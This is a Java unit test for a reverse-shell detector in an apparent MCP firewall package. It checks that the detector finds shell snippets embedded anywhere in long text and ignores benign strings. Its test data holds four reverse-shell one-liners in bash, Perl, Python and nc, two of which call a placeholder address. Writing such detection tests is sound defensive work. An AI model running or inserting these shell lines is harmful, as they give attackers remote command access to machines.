// SPDX-License-Identifier: Apache-2.0
package dev.mcpfirewall.detect;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CodeMarkersTest {
  private static final String LONG = "Plain words (and a few signs: a/b, c=d; 'e').\n".repeat(500);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "exec 3<>/dev/tcp/203.0.113.9/443",
        "IO::Socket::INET->new(Peer => 'x'); system('id')",
        "s = socket(); subprocess.call(['/bin/sh'])",
        "mkfifo /tmp/p; cat /tmp/p | nc 203.0.113.9 443",
      })
  void aShellIsFoundWhereverItStandsInATextOfAnyLength(String shell) {
    assertThat(CodeMarkers.reverseShell(shell)).isPresent();
    assertThat(CodeMarkers.reverseShell(LONG + shell)).isPresent();
    assertThat(CodeMarkers.reverseShell(shell + LONG)).isPresent();
    assertThat(CodeMarkers.reverseShell(LONG + shell + LONG))
        .isEqualTo(CodeMarkers.reverseShell(LONG + shell));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "/DEV/TCP/", "iex", "é漢😀"})
  void ordinaryTextHoldsNone(String text) {
    assertThat(CodeMarkers.reverseShell(LONG + text + LONG)).isEmpty();
  }
}
